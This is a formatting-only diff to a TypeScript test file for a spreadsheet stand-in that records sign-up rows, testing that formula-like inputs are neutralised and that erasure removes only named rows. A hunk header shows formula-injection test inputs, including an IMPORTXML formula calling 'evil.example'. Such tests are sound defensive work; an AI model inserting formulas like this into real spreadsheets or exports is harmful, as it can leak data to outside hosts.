@@ -1,7 +1,14 @@
 import { expect, test } from 'vitest';
 import { type Cell, openScriptedSheet } from './sheet-stand-in.ts';
 
-const signUp = { id: 'a1', time: '2026-03-01T10:00:00.000Z', email: 'anna@example.org', name: '', role: 'Other', source: 'Footer' };
+const signUp = {
+  id: 'a1',
+  time: '2026-03-01T10:00:00.000Z',
+  email: 'anna@example.org',
+  name: '',
+  role: 'Other',
+  source: 'Footer',
+};
 
 function shown(row: Cell[] | undefined): (string | undefined)[] | undefined {
   return row?.map((cell) => ('shown' in cell ? cell.shown : undefined));
@@ -35,7 +42,9 @@ test.each(['=IMPORTXML("https://evil.example")', '+1', '-1', '@SUM(A1)', '\t=1',
 test('an erasure takes out the rows it names, and only those', () => {
   const sheet = openScriptedSheet();
   for (const id of ['a1', 'b2', 'c3', 'd4']) sheet.post(JSON.stringify({ ...signUp, id }));
-  expect(JSON.parse(sheet.post(JSON.stringify({ id: 'e5', time: signUp.time, erase: ['b2', 'c3', 'gone'] })))).toEqual({ ok: true });
+  expect(JSON.parse(sheet.post(JSON.stringify({ id: 'e5', time: signUp.time, erase: ['b2', 'c3', 'gone'] })))).toEqual({
+    ok: true,
+  });
   expect(sheet.rows.slice(1).map((row) => shown(row)?.[0])).toEqual(['a1', 'd4']);
 });
 
